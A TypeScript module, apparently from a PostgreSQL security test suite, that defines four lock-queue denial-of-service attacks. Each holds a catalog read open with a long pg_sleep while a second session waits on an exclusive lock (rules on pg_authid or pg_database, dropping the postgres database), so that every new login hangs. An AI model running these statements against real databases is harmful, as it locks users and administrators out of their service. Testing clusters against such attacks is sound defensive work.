/**
 * PostgreSQL takes some locks before it asks whether the statement is allowed. One session reads a shared catalog in an
 * open transaction, another one waits for an excluding lock on it, and everybody who logs in queues behind the second.
 */
import { type Attack, AttackSessions, moment } from "./cluster-attack.ts";

const FOR_EVER = "select pg_sleep(1e6)";

function variant(name: string, reading: readonly string[], waiting: readonly string[]): Attack {
  return {
    name,
    async run(login) {
      const sessions = new AttackSessions(login);
      await sessions.begin(["begin", ...reading, FOR_EVER]);
      await sessions.begin(waiting);
      await moment();
      return sessions.running();
    },
  };
}

/** Each hangs every new session of the cluster, or of one of its databases, for as long as the attacker likes. */
export const SHARED_LOCK_ATTACKS: readonly Attack[] = [
  variant(
    "waits to write a rule on the catalog of databases",
    ["select count(*) from pg_database"],
    ["create rule r as on insert to pg_catalog.pg_database do instead nothing"],
  ),
  variant(
    "waits to write a rule on the catalog of roles",
    ["select count(*) from pg_roles"],
    ["create rule r as on insert to pg_catalog.pg_authid do instead nothing"],
  ),
  variant(
    "waits to drop the database that every administrator logs in to",
    ["set local role anon", "alter role anon in database postgres set work_mem = '1MB'"],
    ["drop database postgres"],
  ),
  // Every session that next looks up a role reads the catalog again, the watch's own included.
  variant(
    "changes a role a moment before it waits for the catalog of roles",
    ["select count(*) from pg_roles"],
    [
      "alter role current_user set work_mem = '1MB'",
      "create rule r as on insert to pg_catalog.pg_authid do instead nothing",
    ],
  ),
];
